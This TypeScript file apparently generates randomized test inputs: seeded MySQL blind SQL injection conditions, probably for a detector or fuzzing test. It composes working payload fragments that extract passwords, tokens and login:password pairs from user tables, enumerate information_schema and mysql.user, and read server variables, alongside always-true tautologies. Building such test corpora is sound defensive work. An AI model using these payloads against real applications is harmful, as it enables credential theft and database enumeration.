/**
 * What attackers ask where an application expected a value, and how they put it as a condition. Every choice is made by
 * dice, so that no two runs with different seeds measure the same texts.
 */
import { randomFrom } from "../test/support/random.ts";

/** Chooses; the same seed chooses the same. */
export class Chooser {
  readonly #random: () => number;

  constructor(seed: number) {
    this.#random = randomFrom(seed);
  }

  below(end: number): number {
    return Math.floor(this.#random() * end);
  }

  chance(share: number): boolean {
    return this.#random() < share;
  }

  of<T>(...choices: readonly T[]): T {
    return choices[this.below(choices.length)] as T;
  }

  from(choices: string): string {
    return this.of(...choices.split("¦").map((choice) => choice.trim()));
  }
}

export const LETTERS = "abcdefghijklmnopqrstuvwxyz";

/** What is asked, and conditions that ask nothing, all by one chooser. */
export class Questions {
  readonly dice: Chooser;

  constructor(dice: Chooser) {
    this.dice = dice;
  }

  number(): string {
    return String(this.dice.of(1, 2, 3, 5, 7, 64, 100, 1000 + this.dice.below(9000)));
  }

  letter(): string {
    return LETTERS[this.dice.below(26)] as string;
  }

  word(): string {
    return Array.from({ length: 3 + this.dice.below(4) }, () => this.letter()).join("");
  }

  hex(): string {
    return `0x${Buffer.from(this.word()).toString("hex")}`;
  }

  /** A value of the application's own row. */
  column(): string {
    return this.dice.from("password ¦ login ¦ email ¦ id ¦ name ¦ secret ¦ role");
  }

  /** A value that the attacker wants: of another table, of the catalog, or about the server. */
  secret(): string {
    const { dice } = this;
    const from = dice.from("member ¦ account ¦ app.users ¦ wp_users ¦ `admin`");
    const catalog = dice.from(
      "table_name FROM information_schema.tables ¦ column_name FROM information_schema.columns ¦ schema_name FROM information_schema.schemata ¦ table_name FROM mysql.innodb_table_stats ¦ table_name FROM sys.schema_table_statistics ¦ user FROM mysql.user ¦ grantee FROM information_schema.user_privileges ¦ info FROM information_schema.processlist ¦ sql_text FROM performance_schema.events_statements_current",
    );
    const column = dice.from(
      "password ¦ pass ¦ email ¦ user_pass ¦ token ¦ `key` ¦ name ¦ CAST(id AS CHAR) ¦ IFNULL(CAST(login AS NCHAR),0x20)",
    );
    return dice.of(
      () => `(SELECT ${column} FROM ${from} LIMIT ${this.offset()})`,
      () => `(SELECT ${column} FROM ${from} WHERE id=${this.number()})`,
      () => `(SELECT ${column} FROM ${from} WHERE login='admin')`,
      () => `(SELECT ${column} FROM ${from} ORDER BY id DESC LIMIT ${this.offset()})`,
      () => `(SELECT GROUP_CONCAT(${column}) FROM ${from})`,
      () => `(SELECT GROUP_CONCAT(${column} SEPARATOR 0x2c) FROM ${from})`,
      () => `(SELECT COUNT(*) FROM ${from})`,
      () => `(SELECT MIN(${column}) FROM ${from} WHERE id>${this.number()})`,
      () => `(SELECT DISTINCT ${catalog} LIMIT ${this.offset()})`,
      () => `(SELECT ${catalog} WHERE table_schema=DATABASE() LIMIT ${this.offset()})`,
      () => `(SELECT GROUP_CONCAT(x.n) FROM (SELECT ${catalog.replace(" FROM", " AS n FROM")}) x)`,
      () => `(SELECT a.\`2\` FROM (SELECT 1,2,3 UNION SELECT * FROM ${from})a LIMIT ${this.offset()})`,
      () => `(SELECT CONCAT_WS(0x3a,login,password) FROM ${from} LIMIT ${this.offset()})`,
      () => this.sessionValue(),
      () => this.sessionValue(),
      () => `(SELECT ${this.sessionValue()})`,
    )();
  }

  offset(): string {
    return this.dice.of("1", "0,1", "1 OFFSET 0", `${this.dice.below(20)},1`);
  }

  sessionValue(): string {
    return this.dice.from(
      "VERSION() ¦ USER() ¦ DATABASE() ¦ SCHEMA() ¦ CURRENT_USER() ¦ CURRENT_USER ¦ SESSION_USER() ¦ SYSTEM_USER() ¦ @@version ¦ @@datadir ¦ @@hostname ¦ @@global.version ¦ @@secure_file_priv ¦ @@basedir",
    );
  }

  /** What is looked at piece by piece: mostly something foreign, now and then a column of the row itself. */
  target(): string {
    return this.dice.chance(0.15) ? this.column() : this.secret();
  }

  /** A number that tells something about the target. */
  measure(): string {
    const { dice } = this;
    const s = this.target();
    const n = 1 + dice.below(20);
    return dice.of(
      () => `ASCII(SUBSTR(${s},${n},1))`,
      () => `ASCII(SUBSTRING(${s} FROM ${n} FOR 1))`,
      () => `ORD(MID(${s},${n},1))`,
      () => `ORD(RIGHT(LEFT(${s},${n}),1))`,
      () => `LENGTH(${s})`,
      () => `CHAR_LENGTH(${s})`,
      () => `BIT_LENGTH(${s})`,
      () => `CONV(HEX(SUBSTR(${s},${n},1)),16,10)`,
      () => `LOCATE('${this.letter()}',${s})`,
      () => `POSITION('${this.letter()}' IN ${s})`,
      () => `INSTR(${s},'${this.word()}')`,
      () => `STRCMP(${s},'${this.word()}')`,
      () => `FIND_IN_SET('${this.word()}',${s})`,
      () => `CRC32(${s})`,
      () => `(ASCII(SUBSTR(${s},${n},1))>>${dice.below(8)})&1`,
      () => `ASCII(SUBSTR(${s},${n},1)) DIV ${this.number()}`,
      () => `MOD(ASCII(MID(${s},${n},1)),2)`,
      () => `ASCII(REVERSE(LEFT(${s},${n})))`,
      () => `ASCII(UNHEX(SUBSTR(HEX(${s}),${n},2)))`,
      () => `CAST(SUBSTR(LPAD(BIN(ORD(MID(${s},${n},1))),8,0),${1 + dice.below(8)},1) AS SIGNED)`,
      () => `REGEXP_INSTR(${s},'^${this.letter()}')`,
      () => `COALESCE(ASCII(MID(${s},${n},1)),0)`,
    )();
  }

  /** A text that tells something about the target. */
  piece(): string {
    const { dice } = this;
    const s = this.target();
    const n = 1 + dice.below(20);
    return dice.of(
      () => `SUBSTR(${s},${n},1)`,
      () => `SUBSTRING(${s} FROM ${n} FOR 1)`,
      () => `MID(${s},${n},1)`,
      () => `LEFT(${s},${n})`,
      () => `RIGHT(${s},${n})`,
      () => `HEX(SUBSTR(${s},${n},1))`,
      () => `LOWER(SUBSTR(${s},${n},1))`,
      () => `BINARY SUBSTR(${s},${n},1)`,
      () => `TRIM(LEADING '${this.word()}' FROM ${s})`,
      () => `REPLACE(${s},'${this.letter()}','')`,
      () => `INSERT(${s},1,${n},'')`,
      () => `LPAD(${s},${n},' ')`,
      () => `SUBSTRING_INDEX(${s},'${this.letter()}',1)`,
      () => `WEIGHT_STRING(${s})`,
      () => `MD5(${s})`,
      () => `CONVERT(${s} USING utf8mb4)`,
      () => `REGEXP_SUBSTR(${s},'^.')`,
      () => s,
    )();
  }

  text(): string {
    return this.dice.of(`'${this.word()}'`, `'${this.letter()}'`, this.hex(), `CHAR(${97 + this.dice.below(26)})`);
  }

  /** A yes-or-no question about the target. */
  question(): string {
    const { dice } = this;
    const m = this.measure();
    const p = this.piece();
    const n = this.number();
    const compare = dice.from("> ¦ < ¦ = ¦ >= ¦ <= ¦ <> ¦ != ¦ <=>");
    return dice.of(
      () => `${m}${compare}${n}`,
      () => `${m}${compare}${n}`,
      () => `${p}${compare}${this.text()}`,
      () => `${p}${compare}${this.text()}`,
      () => `${n}${compare}${m}`,
      () => `${this.text()}${compare}${p}`,
      () => `${m} BETWEEN ${n} AND ${n}+9`,
      () => `${m} NOT BETWEEN 0 AND ${n}`,
      () => `${p} BETWEEN ${this.text()} AND ${this.text()}`,
      () => `${m} IN (${n},${n}1)`,
      () => `${p} IN (${this.text()})`,
      () => `${p} NOT IN (${this.text()})`,
      () => `${n} IN (${m})`,
      () => `${p} LIKE '${this.letter()}%'`,
      () => `${p} LIKE BINARY '${this.letter()}%'`,
      () => `${p} NOT LIKE 0x${Buffer.from(this.letter()).toString("hex")}25`,
      () => `${p} REGEXP '^${this.letter()}'`,
      () => `${p} RLIKE BINARY '^[${this.letter()}-z]'`,
      () => `${this.text()} REGEXP ${p}`,
      () => `GREATEST(${m},${n})=${n}`,
      () => `LEAST(${m},${n})<>${n}`,
      () => `INTERVAL(${m},${n},${n}0)`,
      () => `ELT(${m}>${n},1)`,
      () => `FIELD(${p},${this.text()})`,
      () => `MAKE_SET(${m}>${n},1)`,
      () => `STRCMP(${p},${this.text()})`,
      () => `ISNULL(NULLIF(${p},${this.text()}))`,
      () => `NULLIF(${m},${n})`,
      () => `IFNULL(NULLIF(${m},${n}),0)`,
      () => `IF(${m}>${n},1,0)`,
      () => `IF(${p}=${this.text()},${n},0)`,
      () => `CASE WHEN ${m}>${n} THEN 1 ELSE 0 END`,
      () => `CASE ${p} WHEN ${this.text()} THEN 1 ELSE 0 END`,
      () => `${m} XOR ${n}`,
      () => `${m}-${n}`,
      () => `${m}^${n}`,
      () => `${m}%2`,
      () => `${m}`,
      () => `(SELECT ${m}>${n})`,
      () => `(SELECT 1 FROM member WHERE ${this.column()} LIKE '${this.letter()}%' LIMIT 1)=1`,
      () => `(SELECT COUNT(*) FROM member WHERE login='admin' AND password LIKE '${this.letter()}%')>0`,
      () => `EXISTS(SELECT 1 FROM member WHERE login='admin' AND ${this.column()} REGEXP '^${this.letter()}')`,
      () => `EXISTS(SELECT * FROM ${this.word()})`,
      () => `NOT EXISTS(SELECT password FROM member WHERE id=${n} AND ${m}>${n})`,
      () => `(1,${this.text()})<(SELECT id,login FROM member LIMIT 1)`,
      () => `(SELECT ${p}) IS NOT NULL`,
      () => `${this.text()}=ANY(SELECT login FROM member)`,
      () => `${n} IN (SELECT ${m} FROM member)`,
      () => `(SELECT 'x' FROM member WHERE id=${n} AND ${p}=${this.text()})='x'`,
      () => `JSON_EXTRACT(JSON_ARRAY(${p}),'$[0]')=${this.text()}`,
      () => `ROW(${m},1)>ROW(${n},1)`,
    )();
  }

  /** A condition that no row changes, or that every row passes. */
  truth(): string {
    const { dice } = this;
    const n = this.number();
    const w = this.word();
    return dice.of(
      () => `${n}=${n}`,
      () => `${n}<${n}1`,
      () => `${n} LIKE ${n}`,
      () => `${n}<=>${n}`,
      () => `'${w}'='${w}'`,
      () => `'${w}' LIKE '${w}'`,
      () => `'${w}' REGEXP '.'`,
      () => `'${w}'<'${w}z'`,
      () => `"${w}"="${w}"`,
      () => `${n} IN (${n})`,
      () => `${n} BETWEEN 0 AND ${n}1`,
      () => `NOT 0`,
      () => `NOT ${n}=${n}1`,
      () => `!0`,
      () => `!(${n}=${n}1)`,
      () => `TRUE`,
      () => `~0`,
      () => `-${n}`,
      () => n,
      () => `'${n}'`,
      () => `0x31`,
      () => `1 IS NOT NULL`,
      () => `NULL IS NULL`,
      () => `ISNULL(1/0)`,
      () => `1/0 IS NULL`,
      () => `${n}+1>${n}`,
      () => `LENGTH('${w}')=${w.length}`,
      () => `ASCII('${w[0]}')=${w.charCodeAt(0)}`,
      () => `CHAR(49)=1`,
      () => `PI()>3`,
      () => `COS(0)=1`,
      () => `MOD(29,9)=2`,
      () => `POW(2,3)=8`,
      () => `STRCMP('a','a')=0`,
      () => `GREATEST(1,${n})>0`,
      () => `IF(${n}=${n},1,0)`,
      () => `CASE WHEN ${n}=${n} THEN 1 ELSE 0 END`,
      () => `(SELECT ${n})=${n}`,
      () => `(SELECT 1)`,
      () => `EXISTS(SELECT 1)`,
      () => `(SELECT '${w}' FROM DUAL)='${w}'`,
      () => `ROW(1,1)=ROW(1,1)`,
      () => `id=id`,
      () => `id LIKE id`,
      () => `id-id=0`,
      () => `name LIKE '%'`,
      () => `id IS NOT NULL`,
      () => `id>0`,
      () => `NOW()>0`,
      () => `RAND()<2`,
      () => `CONNECTION_ID()>0`,
      () => `CONNECTION_ID()=CONNECTION_ID()`,
      () => `CRC32(${n})>0`,
      () => `JSON_LENGTH('{}')=0`,
      () => `JSON_VALID('1')`,
      () => `JSON_DEPTH('{}')!=${n}`,
      () => `JSON_EXTRACT('{"id": 14, "name": "x"}','$.name')='x'`,
      () => `DAYNAME(FROM_UNIXTIME(0))='Thursday'`,
      () => `CONCAT('a','b')='ab'`,
      () => `UNHEX('61')='a'`,
      () => `LAST_INSERT_ID()=0`,
      () => `@@version_comment IS NOT NULL`,
      () => `@@version LIKE '%'`,
      () => `ST_X(POINT(${n},2))=${n}`,
      () => `INET_ATON('127.0.0.1')>0`,
      () => `BIT_COUNT(7)=3`,
      () => `CONVERT(${n},CHAR)='${n}'`,
      () => `CAST('${n}' AS SIGNED)=${n}`,
      () => `x'61'='a'`,
      () => `b'1'`,
      () => `1&1`,
      () => `2>>1`,
      () => `1 DIV 1`,
      () => `${n}%${n}=0`,
      () => `'${w}' SOUNDS LIKE '${w}'`,
      () => `'${w}' COLLATE utf8mb4_bin='${w}'`,
      () => `_utf8mb4'${w}'='${w}'`,
      () => `BINARY 'a'='a'`,
      () => `{x 1}={x 1}`,
      () => `DATE '2020-01-01'<NOW()`,
      () => `VALIDATE_PASSWORD_STRENGTH('a') IS NOT NULL`,
    )();
  }

  /** The same condition in other clothes. */
  dressed(condition: string): string {
    return this.dice.of(
      () => condition,
      () => condition,
      () => condition,
      () => `(${condition})`,
      () => `NOT (${condition})`,
      () => `!(${condition})`,
      () => `(${condition})=1`,
      () => `1=(${condition})`,
      () => `(${condition}) IS TRUE`,
      () => `(${condition}) IS NOT FALSE`,
      () => `IF(${condition},1,0)`,
      () => `CASE WHEN (${condition}) THEN 1 ELSE 0 END`,
      () => `(SELECT (${condition}))`,
      () => `(SELECT 1 WHERE ${condition})`,
      () => `(SELECT CASE WHEN (${condition}) THEN 1 ELSE 0 END)`,
      () => `(SELECT IF((${condition}),1,0))`,
      () => `(${condition})*1`,
      () => `ELT(${condition},1)`,
      () => `NOT NOT (${condition})`,
      () => `(SELECT * FROM (SELECT (${condition}))${this.word()})`,
    )();
  }
}
